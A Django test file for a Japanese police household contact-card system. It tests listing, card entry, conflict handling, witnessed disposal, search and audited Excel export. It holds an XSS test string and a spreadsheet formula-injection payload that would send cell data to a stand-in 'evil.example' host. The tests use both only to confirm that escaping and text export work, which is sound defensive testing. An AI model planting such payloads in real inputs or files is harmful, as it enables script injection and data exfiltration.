"""Household pages through HTTP: lists, the household, card entry, correction, conflict,
disposal, search and export — with scope, audit and Japanese errors."""

from __future__ import annotations

import datetime as dt
import json
from io import BytesIO
from typing import Any

from django.utils import timezone
from openpyxl import load_workbook

from junkai.audit.models import AuditEvent, EventType
from junkai.households import actions as household_actions
from junkai.households import cards
from junkai.households.models import CardRevision, CardStatus, Category, ContactCard
from junkai.lib.wareki import format_wareki
from junkai.testing import PersonaTestCase


def card_post(**overrides: Any) -> dict[str, Any]:
    """A card form submission: management forms plus one resident."""
    data: dict[str, Any] = {
        "source": "OFFICER",
        "accepted_on": "R7.6.1",
        "binder_number": "3",
        "index_number": "",
        "basis": "VISIT",
        "note": "",
        "residents-TOTAL_FORMS": "2",
        "residents-INITIAL_FORMS": "0",
        "residents-0-name": "木村 健",
        "residents-0-kana": "ｷﾑﾗ ｹﾝ",
        "residents-0-relation": "世帯主",
        "residents-0-birth_date": "昭和30年1月2日",
        "residents-0-sex": "M",
        "residents-0-phone": "０９０－５５５５－６６６６",
        "contacts-TOTAL_FORMS": "1",
        "contacts-INITIAL_FORMS": "0",
        "vehicles-TOTAL_FORMS": "1",
        "vehicles-INITIAL_FORMS": "0",
    }
    data.update(overrides)
    return data


class ListAndDetailTests(PersonaTestCase):
    def test_beat_list_groups_by_town_and_block_group(self) -> None:
        page = self.client_for("officer1a").get(f"/beats/{self.beat('K1-1').id}/households/")
        self.assertContains(page, "駅前町")
        self.assertContains(page, "1組")
        self.assertContains(page, "未把握世帯")
        self.assertContains(page, "家庭")
        self.assertNotContains(page, "090-1111-2222")  # lists never show phones
        self.assertTrue(AuditEvent.objects.filter(event_type=EventType.LIST_HOUSEHOLDS).exists())

    def test_beat_list_rows_escape_names_and_show_last_visit_and_badges(self) -> None:
        from junkai.households import actions
        from junkai.visits.actions import do_record_visit

        actions.do_create_household(
            self.beat("K1-1"), acting_officer=None, kind="RESIDENCE", town="駅前町",
            block_group="1組", map_number=77, name="<script>alert(1)</script>&商店",
            leader_role="HANCHO",
        )  # fmt: skip
        when = timezone.localtime().replace(hour=10, minute=0, second=0, microsecond=0)
        when -= dt.timedelta(days=3)
        do_record_visit(
            self.aoki, acting_officer=self.officer("officer1a"), started_at=when, outcome="MET",
            guidance_topics=[1],
        )  # fmt: skip
        page = self.client_for("officer1a").get(f"/beats/{self.beat('K1-1').id}/households/")
        html = page.content.decode()
        self.assertNotIn("<script>alert(1)</script>", html)
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;&amp;商店", html)
        self.assertIn('<span class="badge">班長</span>', html)
        self.assertIn(f'<a href="/households/{self.aoki.id}/">', html)
        self.assertIn(format_wareki(when.date()), html)
        self.assertIn('<td class="muted" data-label="最終訪問">―</td>', html)  # never visited

    def test_beat_list_shows_the_building_and_room_and_filters_by_town(self) -> None:
        from junkai.households import actions
        from junkai.households.models import Building

        building = Building.objects.create(
            post=self.post("K1"), beat=self.beat("K1-1"), name="コーポ<駅前>", town="栄町"
        )
        actions.do_create_household(
            self.beat("K1-1"), acting_officer=None, building=building, kind="RESIDENCE",
            town="栄町", chome="2", banchi="5", go="1", room="201", block_group="3組",
        )  # fmt: skip
        url = f"/beats/{self.beat('K1-1').id}/households/"
        client = self.client_for("officer1a")
        self.assertContains(client.get(url), "栄町2丁目5番1号 コーポ&lt;駅前&gt; 201号室")
        only = client.get(url, {"town": "栄町"})
        self.assertEqual(only.context["count"], 1)
        self.assertNotContains(only, "駅前町1丁目2番3号")
        self.assertEqual(
            client.get(url, {"town": "駅前町", "block_group": "3組"}).context["count"], 0
        )

    def test_beat_list_query_count_does_not_grow(self) -> None:
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        from junkai.households import actions

        client = self.client_for("officer1a")
        url = f"/beats/{self.beat('K1-1').id}/households/"
        client.get(url)
        with CaptureQueriesContext(connection) as few:
            client.get(url)
        for n in range(20):
            actions.do_create_household(
                self.beat("K1-1"), acting_officer=None, kind="RESIDENCE", town="駅前町",
                block_group=f"{n % 3}組", map_number=10 + n,
            )  # fmt: skip
        with CaptureQueriesContext(connection) as many:
            page = client.get(url)
        self.assertEqual(page.context["count"], 22)
        self.assertEqual(len(many), len(few))

    def test_other_post_officer_gets_404(self) -> None:
        client = self.client_for("officer2a")
        self.assertEqual(client.get(f"/households/{self.aoki.id}/").status_code, 404)
        self.assertEqual(client.get(f"/beats/{self.beat('K1-1').id}/households/").status_code, 404)

    def test_household_page_shows_card_and_records_the_read(self) -> None:
        page = self.client_for("officer1a").get(f"/households/{self.aoki.id}/")
        self.assertContains(page, "青木 一郎")
        self.assertContains(page, "090-1111-2222")
        self.assertContains(page, "昭和45年3月1日")
        self.assertNotContains(page, "閲覧記録")  # only for managers
        read = AuditEvent.objects.get(
            event_type=EventType.READ_HOUSEHOLD, actor=self.officer("officer1a")
        )
        self.assertEqual(read.object_id, str(self.aoki.id))
        self.assertEqual(read.purpose, "世帯ページの閲覧")

    def test_manager_sees_who_viewed(self) -> None:
        self.client_for("officer1a").get(f"/households/{self.aoki.id}/")
        kacho = self.client_for("kacho")
        self.state_read_purpose(kacho, self.aoki)
        page = kacho.get(f"/households/{self.aoki.id}/")
        self.assertContains(page, "閲覧記録")
        self.assertContains(page, "officer1a")
        self.assertContains(page, "監督・点検")  # the 地域課長's own stated purpose


class CardEntryTests(PersonaTestCase):
    def test_new_card_from_tablet_input(self) -> None:
        client = self.client_for("officer1a")
        response = client.post(f"/households/{self.no_card.id}/card/", card_post())
        self.assertRedirects(response, f"/households/{self.no_card.id}/")
        card = ContactCard.objects.get(household=self.no_card, status=CardStatus.ACTIVE)
        resident = card.residents.get()
        self.assertEqual(resident.kana, "きむら けん")  # half-width katakana folded
        self.assertEqual(resident.phone, "090-5555-6666")  # full-width digits folded
        self.assertEqual(str(resident.birth_date), "1955-01-02")  # 和暦 accepted
        self.no_card.refresh_from_db()
        # Born 昭和30年, the only resident is 65+: 高齢者世帯 without anyone flagging it.
        self.assertEqual(self.no_card.category, Category.ELDERLY)
        self.assertEqual(card.revisions.get().basis, "NEW")

    def test_errors_are_named_per_field_and_nothing_is_saved(self) -> None:
        client = self.client_for("officer1a")
        writes = AuditEvent.objects.exclude(event_type=EventType.READ_HOUSEHOLD)
        before = writes.count()
        response = client.post(
            f"/households/{self.no_card.id}/card/",
            card_post(**{"residents-0-birth_date": "2023-02-30", "residents-0-kana": "kimura"}),
        )
        self.assertEqual(response.status_code, 422)
        self.assertContains(response, "「2023-02-30」は存在しない日付です", status_code=422)
        self.assertContains(
            response, "ふりがなは、ひらがな又はカタカナで入力してください", status_code=422
        )
        self.assertFalse(ContactCard.objects.filter(household=self.no_card).exists())
        self.assertEqual(writes.count(), before)  # only the read of the form is on record

    def test_reader_cannot_write(self) -> None:
        # The chief reads the station; he does not correct cards.
        self.assertEqual(
            self.client_for("chief").get(f"/households/{self.aoki.id}/card/").status_code, 403
        )


class CorrectionTests(PersonaTestCase):
    def form_of(self, username: str) -> dict[str, Any]:
        page = self.client_for(username).get(f"/households/{self.aoki.id}/card/")
        form = page.context["form"]
        formsets = page.context["formsets"]
        data = {k: ("" if v is None else v) for k, v in form.initial.items()}
        data.update(basis="RESIDENT", note="電話番号の変更")
        data["needs_support"] = ""
        for key, formset in formsets.items():
            data[f"{key}-TOTAL_FORMS"] = str(len(formset.forms))
            data[f"{key}-INITIAL_FORMS"] = str(len(formset.initial or []))
            for i, sub in enumerate(formset.forms):
                for name in sub.fields:
                    value = sub.initial.get(name)
                    data[f"{key}-{i}-{name}"] = "" if value is None else value
        return {k: v for k, v in data.items() if v is not False}

    def test_correction_keeps_old_and_new(self) -> None:
        data = self.form_of("officer1a")
        data["residents-0-phone"] = "080-9999-0000"
        response = self.client_for("officer1a").post(f"/households/{self.aoki.id}/card/", data)
        self.assertRedirects(response, f"/households/{self.aoki.id}/")
        revision = CardRevision.objects.get(card__household=self.aoki, version=2)
        self.assertEqual(revision.basis, "RESIDENT")
        self.assertEqual(
            revision.changes,
            [
                {
                    "field": "residents.0.phone",
                    "label": "世帯員1の電話",
                    "old": "090-1111-2222",
                    "new": "080-9999-0000",
                }
            ],
        )
        page = self.client_for("officer1a").get(f"/households/{self.aoki.id}/")
        self.assertContains(page, "<del>090-1111-2222</del>", html=False)

    def test_stale_save_shows_both_versions_and_changes_nothing(self) -> None:
        mine = self.form_of("officer1a")
        theirs = self.form_of("officer1b")
        theirs["residents-0-workplace"] = "市役所"
        self.client_for("officer1b").post(f"/households/{self.aoki.id}/card/", theirs)
        mine["residents-0-phone"] = "080-0000-1111"
        response = self.client_for("officer1a").post(f"/households/{self.aoki.id}/card/", mine)
        self.assertEqual(response.status_code, 409)
        self.assertContains(response, "他の職員が先に更新しました", status_code=409)
        self.assertContains(response, "市役所", status_code=409)  # theirs, saved
        self.assertContains(response, "080-0000-1111", status_code=409)  # mine, not saved
        card = ContactCard.objects.get(household=self.aoki, status=CardStatus.ACTIVE)
        self.assertEqual(card.version, 2)
        self.assertEqual(card.residents.get(position=0).phone, "090-1111-2222")
        self.assertTrue(AuditEvent.objects.filter(event_type=EventType.CARD_CONFLICT).exists())

    def test_overwrite_with_an_unknown_basis_is_refused(self) -> None:
        # The basis comes back from a hidden field: do_save_card checks it for every caller.
        card = ContactCard.objects.get(household=self.aoki, status=CardStatus.ACTIVE)
        submitted = {**cards.snapshot(card), "remarks": "上書き"}
        url = f"/households/{self.aoki.id}/card/overwrite/"
        response = self.client_for("officer1a").post(
            url,
            {"submitted": json.dumps(submitted), "version": str(card.version), "basis": "GUESS"},
        )
        self.assertRedirects(response, f"/households/{self.aoki.id}/card/")
        card.refresh_from_db()
        self.assertEqual(card.version, 1)
        self.assertEqual(CardRevision.objects.filter(card=card).count(), 1)


class DisposalTests(PersonaTestCase):
    def test_disposal_needs_a_second_officer(self) -> None:
        client = self.client_for("officer1a")
        url = f"/households/{self.aoki.id}/card/dispose/"
        alone = client.post(
            url,
            {
                "reason": "転出後5年経過",
                "witness_username": "officer1a",
                "witness_password": "junkai-demo",
            },
        )
        self.assertContains(alone, "立会者は廃棄する本人以外の職員にしてください")
        outsider = client.post(
            url,
            {
                "reason": "転出後5年経過",
                "witness_username": "officer2a",
                "witness_password": "junkai-demo",
            },
        )
        self.assertContains(outsider, "立会者はこの交番等の職員にしてください")
        self.assertEqual(ContactCard.objects.get(household=self.aoki).status, CardStatus.ACTIVE)
        done = client.post(
            url,
            {
                "reason": "転出後5年経過",
                "witness_username": "officer1b",
                "witness_password": "junkai-demo",
            },
        )
        self.assertRedirects(done, f"/households/{self.aoki.id}/")
        card = ContactCard.objects.get(household=self.aoki)
        self.assertEqual(card.status, CardStatus.DISPOSED)
        self.assertEqual(card.disposal_witness, self.officer("officer1b"))
        self.aoki.refresh_from_db()
        self.assertEqual(self.aoki.category, Category.UNKNOWN)


class SearchTests(PersonaTestCase):
    def test_search_folds_kana_and_masks(self) -> None:
        client = self.client_for("officer1b")
        for query in ("アオキ", "ｱｵｷ", "あおき", "青木", "09011112222"):
            with self.subTest(query=query):
                page = client.post("/search/", {"query": query}, follow=True)
                self.assertContains(page, "駅前町1丁目2番3号")
                self.assertNotContains(page, "090-1111-2222")
                self.assertNotContains(page, "1970")

    def test_a_name_in_kana_with_no_reading_is_found_in_kana(self) -> None:
        """A query in kana looks at the readings alone; a name written in kana with no
        reading given is found all the same (its key stands in for the reading)."""
        from junkai.households import actions

        actions.do_save_card(
            self.no_card,
            {"residents": [{"name": "山田 ハナ", "kana": ""}]},
            acting_officer=self.officer("officer1a"),
            expected_version=None,
        )
        client = self.client_for("officer1a")
        for query in ("はな", "ハナ", "ﾊﾅ", "山田ハナ", "山田"):
            with self.subTest(query=query):
                page = client.post("/search/", {"query": query}, follow=True)
                self.assertContains(page, "駅前町1丁目2番4号")
        self.assertContains(
            client.post("/search/", {"query": "あおき"}, follow=True), "駅前町1丁目2番3号"
        )

    def test_search_by_address_as_written(self) -> None:
        client = self.client_for("officer1a")
        for query in ("駅前町1丁目2番3号", "駅前町1-2-3", "駅前町１丁目"):
            with self.subTest(query=query):
                self.assertContains(
                    client.post("/search/", {"query": query}, follow=True), "駅前町1丁目2番3号"
                )

    def test_second_first_card_is_a_conflict_not_an_error(self) -> None:
        from junkai.households import actions
        from junkai.testing import SAMPLE_CARD

        actions.do_save_card(
            self.no_card,
            SAMPLE_CARD,
            acting_officer=self.officer("officer1a"),
            expected_version=None,
        )
        with self.assertRaises(actions.StaleCardError):
            actions.do_save_card(
                self.no_card,
                SAMPLE_CARD,
                acting_officer=self.officer("officer1b"),
                expected_version=None,
            )

    def test_search_stays_in_scope_and_is_not_in_the_url(self) -> None:
        self.assertEqual(self.client_for("officer1a").get("/search/?query=x").status_code, 200)
        page = self.client_for("officer2a").post("/search/", {"query": "青木"}, follow=True)
        self.assertContains(page, "該当する世帯はありません")
        event = AuditEvent.objects.filter(event_type=EventType.SEARCH_HOUSEHOLDS).latest("id")
        self.assertNotIn("青木", str(event.details))

    def test_empty_query_is_refused_in_japanese(self) -> None:
        page = self.client_for("officer1a").post("/search/", {"query": ""})
        self.assertContains(page, "検索する語を入力してください")


class ExportTests(PersonaTestCase):
    def test_export_needs_a_purpose_and_stamps_every_sheet(self) -> None:
        client = self.client_for("kobancho1")
        url = f"/beats/{self.beat('K1-1').id}/export/"
        refused = client.post(url, {"purpose": ""})
        self.assertContains(refused, "出力の目的を入力してください")
        response = client.post(url, {"purpose": "防犯指導の計画"})
        self.assertEqual(
            response["Content-Type"],
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
        book = load_workbook(BytesIO(response.content))
        for sheet in book.worksheets:
            self.assertIn("村瀬 健司", sheet["A1"].value)
            self.assertIn("防犯指導の計画", sheet["A1"].value)
        names = [row[11] for row in book["世帯員"].iter_rows(min_row=3, values_only=True)]
        self.assertIn("青木 一郎", names)
        exported = AuditEvent.objects.filter(event_type=EventType.EXPORT_CARDS)
        self.assertEqual(
            set(exported.values_list("object_id", flat=True)),
            {str(self.aoki.id), str(self.no_card.id)},
        )
        self.assertEqual(set(exported.values_list("purpose", flat=True)), {"防犯指導の計画"})

    def test_export_writes_formula_like_text_as_text(self) -> None:
        # A resident's workplace typed as a formula must reach Excel as the text typed, never as
        # a live formula (CSV/formula injection).
        formula = '=HYPERLINK("http://evil.example/?x="&A3,"詳細")'
        card = self.aoki.cards.get(status="ACTIVE")
        data = {
            "residents": [
                {"name": "青木 一郎", "kana": "あおき いちろう", "workplace": formula},
                {"name": "青木 花子", "kana": "あおき はなこ", "workplace": "+81 90"},
            ]
        }
        household_actions.do_save_card(
            self.aoki, data, acting_officer=self.officer("officer1a"), expected_version=card.version
        )
        response = self.client_for("kobancho1").post(
            f"/beats/{self.beat('K1-1').id}/export/", {"purpose": "防犯指導の計画"}
        )
        sheet = load_workbook(BytesIO(response.content))["世帯員"]
        cells = [row[16] for row in sheet.iter_rows(min_row=3) if row[16].value]
        self.assertEqual([c.value for c in cells], [formula, "+81 90"])
        self.assertEqual([c.data_type for c in cells], ["s", "s"])
        self.assertTrue(all(c.quotePrefix for c in cells))
